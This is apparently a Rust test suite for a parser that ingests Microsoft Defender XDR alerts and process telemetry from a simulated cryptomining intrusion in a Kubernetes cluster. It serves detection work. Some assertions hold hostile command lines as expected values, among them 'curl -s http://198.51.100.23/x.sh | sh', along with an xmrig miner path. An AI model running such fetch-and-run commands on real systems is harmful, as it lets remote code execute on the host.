use super::*;
use crate::formats::test_support::{entity, obj};
use crate::formats::{detect_record, Container, Format};
use crate::ingest::framing::csv_cells;
use crate::model::{EntityKind, EventKind, Severity, Source};
use std::sync::Arc;

const EVENTHUB: &str = include_str!("../../../fixtures/samples/defender-xdr/eventhub-messages.json");
const STORAGE: &str = include_str!("../../../fixtures/samples/defender-xdr/storage-PT1H.json");
const PROCESS_CSV: &str = include_str!("../../../fixtures/samples/defender-xdr/portal-cloudprocessevents.csv");
const EVIDENCE_CSV: &str = include_str!("../../../fixtures/samples/defender-xdr/portal-alertevidence.csv");
const EKS: &str = include_str!("../../../fixtures/samples/defender-xdr/eks-eventhub.json");

const CONTAINER_ID: &str = "335beb25619aada911de4c9c604086ce78db2f1ba7103cbf509937476f0575a3";
const MINER: &str = "335beb25619a:2292803:/tmp/.x/xmrig";

/// The records of the Event Hub messages, with the hint the framing gives.
fn hub_records(text: &str) -> Vec<(Value, Hint)> {
    let mut out = Vec::new();
    for (i, line) in text.lines().filter(|l| !l.trim().is_empty()).enumerate() {
        let msg: Value = serde_json::from_str(line).unwrap();
        let c = Arc::new(Container { key: "records", page: i as u32 + 1, facts: Map::new() });
        for r in msg["records"].as_array().unwrap() {
            out.push((r.clone(), Hint { container: Some(c.clone()), ..Hint::default() }));
        }
    }
    out
}

fn parse_with(v: &Value, hint: &Hint) -> Result<NewEvent, RecordError> {
    parse(v.to_string().as_bytes(), &Context::new(hint))
}

fn hub_events(text: &str) -> Vec<NewEvent> {
    hub_records(text).iter().map(|(v, h)| parse_with(v, h).unwrap()).collect()
}

/// The rows of a CSV export, as the framing hands them over.
fn csv_rows(text: &str) -> Vec<Map<String, Value>> {
    // Rows may span lines inside quotes: gather lines until quotes balance.
    let mut rows = Vec::new();
    let mut pending = String::new();
    for line in text.split("\r\n") {
        if !pending.is_empty() {
            pending.push_str("\r\n");
        }
        pending.push_str(line);
        if pending.matches('"').count().is_multiple_of(2) {
            if !pending.trim().is_empty() {
                rows.push(csv_cells(&pending).unwrap());
            }
            pending.clear();
        }
    }
    let header = rows.remove(0);
    rows.into_iter()
        .map(|cells| header.iter().cloned().zip(cells.into_iter().map(Value::String)).collect())
        .collect()
}

fn parse_row(row: &Map<String, Value>) -> Result<NewEvent, RecordError> {
    let hint = Hint { row: true, ..Hint::default() };
    parse(Value::Object(row.clone()).to_string().as_bytes(), &Context::new(&hint))
}

fn keys(ev: &NewEvent, kind: EntityKind) -> Vec<&str> {
    ev.entities.iter().filter(|e| e.kind == kind).map(|e| e.key.as_str()).collect()
}

fn by_title<'a>(events: &'a [NewEvent], part: &str) -> &'a NewEvent {
    events.iter().find(|e| e.title.contains(part)).unwrap_or_else(|| panic!("no event titled {:?}", part))
}

#[test]
fn sniff_claims_streaming_records_and_the_tables_rows_only() {
    for (v, _) in hub_records(EVENTHUB) {
        assert_eq!(detect_record(v.as_object().unwrap()), Some(Format::DefenderXdr), "{}", v);
        // The row alone (as a JSON row export) is claimed too.
        assert_eq!(detect_record(v["properties"].as_object().unwrap()), Some(Format::DefenderXdr));
    }
    for row in csv_rows(PROCESS_CSV).iter().chain(&csv_rows(EVIDENCE_CSV)) {
        assert_eq!(detect_record(row), Some(Format::DefenderXdr), "{:?}", row);
    }
    // A streaming record of another table is still XDR's (to be skipped).
    let device = STORAGE.lines().find(|l| l.contains("DeviceProcessEvents")).unwrap();
    assert!(sniff(&obj(device)));
    // But a DeviceProcessEvents row alone names no cluster: not claimed.
    assert!(!sniff(obj(device)["properties"].as_object().unwrap()));
}

#[test]
fn sniff_leaves_other_azure_and_cloud_records_alone() {
    let samples = [
        include_str!("../../../fixtures/samples/aks/event-hub.json"),
        include_str!("../../../fixtures/samples/aks/azurediagnostics.json"),
        include_str!("../../../fixtures/samples/aks/aksaudit-az-cli.json"),
        include_str!("../../../fixtures/samples/azure-activity/event-hub-messages.json"),
        include_str!("../../../fixtures/samples/azure-activity/az-activity-log-list.json"),
        include_str!("../../../fixtures/samples/defender/rest-value.json"),
        include_str!("../../../fixtures/samples/defender/log-analytics-securityalert.json"),
        include_str!("../../../fixtures/samples/defender/resource-graph.json"),
        include_str!("../../../fixtures/samples/guardduty/get-findings.json"),
    ];
    let mut seen = 0;
    for text in samples {
        for doc in serde_json::Deserializer::from_str(text).into_iter::<Value>() {
            let doc = doc.unwrap();
            let items: Vec<Value> = match &doc {
                Value::Array(a) => a.clone(),
                Value::Object(o) => ["records", "value", "Findings"]
                    .iter()
                    .find_map(|k| o.get(*k).and_then(Value::as_array).cloned())
                    .unwrap_or_else(|| vec![doc.clone()]),
                _ => vec![],
            };
            for item in items.iter().filter_map(Value::as_object) {
                seen += 1;
                assert!(!sniff(item), "claimed: {}", Value::Object(item.clone()));
            }
        }
    }
    for csv in [
        include_str!("../../../fixtures/samples/aks/aksaudit.csv"),
        include_str!("../../../fixtures/samples/aks/azurediagnostics.csv"),
        include_str!("../../../fixtures/samples/eks/logs-insights.csv"),
    ] {
        for row in csv_rows(&csv.replace("\r\n", "\n").replace('\n', "\r\n")) {
            seen += 1;
            assert!(!sniff(&row), "claimed: {:?}", row);
        }
    }
    assert!(seen > 30, "{}", seen);
}

#[test]
fn a_process_row_is_telemetry_keyed_like_falco_and_guardduty() {
    let events = hub_events(EVENTHUB);
    let miner = by_title(&events, "xmrig");
    assert_eq!((miner.source, miner.kind, miner.severity), (Source::DefenderXdr, EventKind::Telemetry, Severity::Info));
    assert_eq!(miner.rule.as_deref(), Some("ProcessCreated"));
    assert_eq!(miner.time_ns, time::parse_rfc3339("2026-11-20T09:47:21.1304567Z"));
    assert_eq!(keys(miner, EntityKind::Process), [MINER]);
    assert_eq!(keys(miner, EntityKind::Container), [CONTAINER_ID]);
    assert_eq!(entity(miner, EntityKind::Container, "container").unwrap().attrs["runtime"], "containerd");
    assert_eq!(keys(miner, EntityKind::Pod), ["shop/cart-7f9c6d8b5-x2k4q"]);
    assert_eq!(keys(miner, EntityKind::Cluster), ["aks-shop-prod"]);
    assert_eq!(keys(miner, EntityKind::Image), ["shopregistry.azurecr.io/shop/cart:2.3.1"]);
    assert_eq!(keys(miner, EntityKind::Workload), ["shop/Deployment/cart"]);
    assert_eq!(keys(miner, EntityKind::File), ["/tmp/.x/xmrig"]);
    assert_eq!(miner.fields["parent_pid"], 2292735);
    assert_eq!(miner.fields["additional_fields"]["Uid"], 10001);
    assert_eq!(miner.shape, Some("event-hub"));
    assert_eq!(miner.rank, RANK_STREAMING_BONUS);
    assert_eq!(miner.fields["envelope"]["tenant_id"], "3c9a0e5d-6f1b-4c7a-9d2e-8b4f1a7c0e53");
    // The demo's host pids: the same process entities as Falco's.
    let pids: Vec<&str> = events.iter().flat_map(|e| keys(e, EntityKind::Process)).collect();
    for key in ["335beb25619a:2291847:/bin/sh", "335beb25619a:2292105:/usr/bin/nmap", "335beb25619a:2292399:/usr/bin/curl"] {
        assert!(pids.contains(&key), "{} in {:?}", key, pids);
    }
}

#[test]
fn the_same_row_exported_as_csv_is_the_same_event_ranked_below_the_stream() {
    let hub = hub_events(EVENTHUB);
    let rows: Vec<NewEvent> = csv_rows(PROCESS_CSV).iter().map(|r| parse_row(r).unwrap()).collect();
    assert_eq!(rows.len(), 6);
    for row in &rows {
        let twin = hub.iter().find(|e| e.dedup_key == row.dedup_key).expect("the stream's copy");
        assert_eq!(keys(row, EntityKind::Process), keys(twin, EntityKind::Process));
        assert!(twin.rank > row.rank);
        assert_eq!(row.shape, Some("xdr-portal-csv"));
    }
    // A command line over two lines stays as given; the title is one line.
    let curl = by_title(&rows, "kube-system/secrets");
    assert!(curl.fields["cmdline"].as_str().unwrap().contains("\r\nhttps://") || curl.fields["cmdline"].as_str().unwrap().contains("\nhttps://"));
    assert!(!curl.title.contains('\n'));
    assert_eq!(by_title(&rows, "ProcessCreated: curl -s http").fields["cmdline"], "curl -s http://198.51.100.23/x.sh");
    assert_eq!(by_title(&rows, "sh -c").fields["cmdline"], "sh -c \"curl -s http://198.51.100.23/x.sh | sh\"");
}

#[test]
fn a_folder_path_that_is_only_the_folder_is_joined_with_the_file_name() {
    let mut row = obj(EVENTHUB.lines().next().unwrap())["records"][5]["properties"].as_object().unwrap().clone();
    row.insert("FolderPath".into(), Value::from("/tmp/.x/"));
    let ev = parse_row(&row).unwrap();
    assert_eq!(keys(&ev, EntityKind::Process), [MINER]);
    row.insert("ProcessId".into(), Value::from(1e30));
    row.insert("ContainerId".into(), Value::from("\u{0}\u{7}containerd://zz"));
    let ev = parse_row(&row).unwrap();
    assert!(keys(&ev, EntityKind::Process).iter().all(|k| !k.contains("1e30")));
    assert!(keys(&ev, EntityKind::Container).is_empty());
}

#[test]
fn clusters_are_read_from_each_clouds_resource_column() {
    let c = cloud::cluster_of("arn:aws:eks:us-east-1:111122223333:cluster/eks-shop-prod").unwrap();
    assert_eq!((c.name.as_str(), c.provider), ("eks-shop-prod", "eks"));
    assert_eq!(c.attrs["arn"], "arn:aws:eks:us-east-1:111122223333:cluster/eks-shop-prod");
    assert_eq!(c.attrs["account"], "111122223333");
    let g = cloud::cluster_of("//container.googleapis.com/projects/shop-prod/locations/europe-west1/clusters/gke-shop").unwrap();
    assert_eq!((g.name.as_str(), g.provider), ("gke-shop", "gke"));
    assert_eq!(g.attrs["project"], "shop-prod");
    let a = cloud::cluster_of(
        "/SUBSCRIPTIONS/54D48471-7E44-4D95-AB1C-E684B446F762/RESOURCEGROUPS/RG-SHOP-PROD/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/AKS-SHOP-PROD",
    )
    .unwrap();
    assert_eq!((a.name.as_str(), a.provider), ("aks-shop-prod", "aks"));
    assert!(cloud::cluster_of("arn:aws:iam::111122223333:role/x").is_none());
    assert!(cloud::cluster_of("/subscriptions/x/resourceGroups/y/providers/Microsoft.Compute/virtualMachines/z").is_none());
}

#[test]
fn times_are_read_with_seven_digits_and_as_the_portal_displays_them() {
    let expected = time::parse_rfc3339("2026-11-20T09:47:21Z");
    assert_eq!(parse_time("2026-11-20T09:47:21.0000000Z"), expected);
    assert_eq!(parse_time("11/20/2026 9:47:21 AM"), expected);
    assert_eq!(parse_time("11/20/2026 09:47:21.000 AM"), expected);
    assert_eq!(parse_time("Nov 20, 2026 9:47:21 AM"), expected);
    assert_eq!(parse_time("yesterday"), None);
}

#[test]
fn technique_ids_come_out_of_names() {
    assert_eq!(technique_ids(r#"["Resource Hijacking (T1496)","Unix Shell (T1059.004)"]"#), ["T1059.004", "T1496"]);
    assert_eq!(technique_ids(""), Vec::<String>::new());
    assert_eq!(technique_ids("T1610, t1609."), ["T1609", "T1610"]);
}

#[test]
fn alert_info_and_evidence_rows_are_one_alert_info_ranked_first() {
    let events = hub_events(EVENTHUB);
    let alert: Vec<&NewEvent> =
        events.iter().filter(|e| e.dedup_key.as_deref() == Some("defender-xdr-alert|da638f2a1c4b7e9d0a1b2c3d4e5f6a7b_-1984533719")).collect();
    assert_eq!(alert.len(), 8, "AlertInfo and seven evidence rows");
    let info = alert.iter().max_by_key(|e| e.rank).unwrap();
    assert_eq!(info.fields["table"], "AlertInfo");
    assert_eq!(info.rank, RANK_ALERT_INFO + RANK_STREAMING_BONUS);
    assert!(alert.iter().filter(|e| e.fields["table"] == "AlertEvidence").all(|e| e.rank == RANK_ALERT_EVIDENCE + RANK_STREAMING_BONUS));
    assert_eq!((info.kind, info.severity), (EventKind::Alert, Severity::High));
    assert_eq!(info.rule.as_deref(), Some("Digital currency mining related behavior detected"));
    assert_eq!(info.tactics, ["TA0040"]);
    assert_eq!(info.techniques, ["T1496"]);
    assert_eq!(info.fields["tags"], serde_json::json!(["Impact", "T1496"]));
    // Each evidence row names its entity; together they are the alert's.
    let all: Vec<(EntityKind, &str)> =
        alert.iter().flat_map(|e| e.entities.iter().map(|x| (x.kind, x.key.as_str()))).collect();
    for want in [
        (EntityKind::Cluster, "aks-shop-prod"),
        (EntityKind::Namespace, "shop"),
        (EntityKind::Pod, "shop/cart-7f9c6d8b5-x2k4q"),
        (EntityKind::Container, CONTAINER_ID),
        (EntityKind::Image, "shopregistry.azurecr.io/shop/cart:2.3.1"),
        (EntityKind::Process, MINER),
        (EntityKind::File, "/tmp/.x/xmrig"),
        (EntityKind::Ip, "198.51.100.77"),
        (EntityKind::Node, "aks-nodepool1-31415926-vmss000001"),
    ] {
        assert!(all.contains(&want), "{:?} missing from {:?}", want, all);
    }
}

#[test]
fn an_evidence_row_alone_is_a_usable_alert() {
    let rows = csv_rows(EVIDENCE_CSV);
    let process = rows.iter().find(|r| r["EntityType"] == "Process").unwrap();
    let ev = parse_row(process).unwrap();
    assert_eq!((ev.kind, ev.severity), (EventKind::Alert, Severity::High));
    assert_eq!(ev.title, "Digital currency mining related behavior detected");
    assert_eq!(ev.tactics, ["TA0040"]);
    assert_eq!(ev.techniques, ["T1496"]);
    assert_eq!(ev.fields["evidence_type"], "Process");
    assert_eq!(ev.fields["evidence_role"], "Impacted");
    assert_eq!(entity(&ev, EntityKind::Process, "process").unwrap().key, MINER);
    assert_eq!(ev.rank, RANK_ALERT_EVIDENCE);
    assert_eq!(ev.shape, Some("xdr-portal-csv"));
}

#[test]
fn evidence_columns_fill_what_additional_fields_lack() {
    let mut row = csv_rows(EVIDENCE_CSV).into_iter().find(|r| r["EntityType"] == "Ip").unwrap();
    row.insert("AdditionalFields".into(), Value::from(""));
    row.insert("RemoteIP".into(), Value::from("::ffff:198.51.100.77"));
    assert_eq!(keys(&parse_row(&row).unwrap(), EntityKind::Ip), ["198.51.100.77"]);
    row.insert("EntityType".into(), Value::from("Url"));
    row.insert("RemoteUrl".into(), Value::from("http://Pool.MineXMR.example:4444/x"));
    assert_eq!(keys(&parse_row(&row).unwrap(), EntityKind::Domain), ["pool.minexmr.example"]);
    row.insert("EntityType".into(), Value::from("User"));
    row.insert("AccountName".into(), Value::from("system:serviceaccount:shop:cart"));
    assert_eq!(keys(&parse_row(&row).unwrap(), EntityKind::Identity), ["system:serviceaccount:shop:cart"]);
    row.insert("EntityType".into(), Value::from("Process"));
    row.insert("FileName".into(), Value::from("xmrig"));
    row.insert("FolderPath".into(), Value::from("/tmp/.x"));
    // No pid, no container: no process key, but the file is named.
    let ev = parse_row(&row).unwrap();
    assert!(keys(&ev, EntityKind::Process).is_empty());
    assert_eq!(keys(&ev, EntityKind::File), ["/tmp/.x/xmrig"]);
    row.insert("EntityType".into(), Value::from("SomethingNew"));
    assert_eq!(parse_row(&row).unwrap().fields["unmapped_entity_types"], serde_json::json!(["SomethingNew"]));
}

#[test]
fn categories_that_are_no_tactic_are_kept_for_the_mapping_table() {
    let events = hub_events(EVENTHUB);
    let scan = events.iter().find(|e| e.title == "Network scanning tool detected" && e.fields["table"] == "AlertInfo").unwrap();
    assert!(scan.tactics.is_empty() && scan.techniques.is_empty());
    assert_eq!(scan.fields["unmapped_categories"], serde_json::json!(["SuspiciousActivity"]));
    assert_eq!(scan.fields["tags"], serde_json::json!(["SuspiciousActivity"]));
    let m = crate::detect::mapping::map(Source::DefenderXdr, scan.rule.as_deref(), &["SuspiciousActivity"]);
    assert_eq!(m.tactics, ["TA0007"]);
    assert_eq!(m.techniques, ["T1046"]);
    let m = crate::detect::mapping::map(Source::DefenderXdr, None, &["CryptoCurrencyMining"]);
    assert_eq!((m.tactics, m.techniques), (vec!["TA0040".to_string()], vec!["T1496".to_string()]));
    // An unknown category stays visible as unmapped.
    assert_eq!(crate::detect::mapping::map(Source::DefenderXdr, None, &["Teleportation"]).unmapped, ["Teleportation"]);
}

#[test]
fn kubernetes_audit_rows_read_the_raw_audit_event_as_object_or_string() {
    let events = hub_events(EVENTHUB);
    let shop = by_title(&events, "list secrets in shop");
    assert_eq!((shop.source, shop.kind), (Source::DefenderXdr, EventKind::Telemetry));
    assert_eq!(entity(shop, EntityKind::Identity, "actor").unwrap().key, "system:serviceaccount:shop:cart");
    assert_eq!(entity(shop, EntityKind::Ip, "source-ip").unwrap().key, "203.0.113.45");
    assert_eq!(entity(shop, EntityKind::Pod, "token-pod").unwrap().key, "shop/cart-7f9c6d8b5-x2k4q");
    assert_eq!(keys(shop, EntityKind::Cluster), ["aks-shop-prod"]);
    assert_eq!(shop.fields["verb"], "list");
    assert_eq!(shop.fields["code"], 200);
    assert_eq!(shop.dedup_key.as_deref(), Some("defender-xdr-audit|c8f5d203-6e91-4b4c-9d37-2a0f9e8d7c63"));
    let (record, hint) = hub_records(EVENTHUB).into_iter().find(|(v, _)| v.to_string().contains("c8f5d203")).unwrap();
    let mut as_string = record.clone();
    let raw = as_string["properties"]["RawEventData"].to_string();
    as_string["properties"]["RawEventData"] = Value::from(raw);
    let again = parse_with(&as_string, &hint).unwrap();
    assert_eq!(again.entities, shop.entities);
    assert_eq!(again.fields, shop.fields);
}

#[test]
fn the_eks_variant_names_the_eks_cluster_and_the_same_miner() {
    let events = hub_events(EKS);
    let process = events.iter().find(|e| e.fields["table"] == "CloudProcessEvents").unwrap();
    assert_eq!(keys(process, EntityKind::Cluster), ["eks-shop-prod"]);
    assert_eq!(keys(process, EntityKind::Process), [MINER]);
    let alert_entities: Vec<&str> =
        events.iter().filter(|e| e.kind == EventKind::Alert).flat_map(|e| keys(e, EntityKind::Cluster)).collect();
    assert!(alert_entities.iter().all(|c| *c == "eks-shop-prod") && !alert_entities.is_empty());
    assert!(events.iter().filter(|e| e.kind == EventKind::Alert).any(|e| keys(e, EntityKind::Process) == [MINER]));
}

#[test]
fn records_xdr_cannot_read_are_errors_or_skipped() {
    let plain = Hint::default();
    let p = |s: &str| parse(s.as_bytes(), &Context::new(&plain));
    let device = STORAGE.lines().find(|l| l.contains("DeviceProcessEvents")).unwrap();
    let e = p(device).unwrap_err();
    assert!(e.skip && e.reason.contains("DeviceProcessEvents"), "{}", e);
    assert!(!p("[1]").unwrap_err().skip);
    let e = p(r#"{"category":"AdvancedHunting-AlertInfo","properties":"x"}"#).unwrap_err();
    assert!(!e.skip && e.reason.contains("a string"), "{}", e);
    let e = p(r#"{"category":"AdvancedHunting-AlertInfo","properties":{"Title":"t","Category":"Impact"}}"#).unwrap_err();
    assert_eq!(e.reason, "the AlertInfo row has no AlertId");
    let e = p(r#"{"category":"AdvancedHunting-AlertInfo","properties":{"AlertId":"a","Title":"t","Timestamp":"soon"}}"#)
        .unwrap_err();
    assert!(e.reason.starts_with("column Timestamp"), "{}", e);
    // The envelope's time stands in for a row without Timestamp.
    let ev = p(r#"{"time":"2026-11-20T09:52:31Z","category":"AdvancedHunting-AlertInfo","properties":{"AlertId":"a","Title":"t","Severity":"UnSpecified"}}"#)
        .unwrap();
    assert_eq!(ev.time_ns, time::parse_rfc3339("2026-11-20T09:52:31Z"));
    assert_eq!((ev.severity, ev.fields["vendor_severity"].as_str()), (Severity::Medium, Some("UnSpecified")));
    assert_eq!(ev.shape, Some("xdr-storage-jsonl"));
}
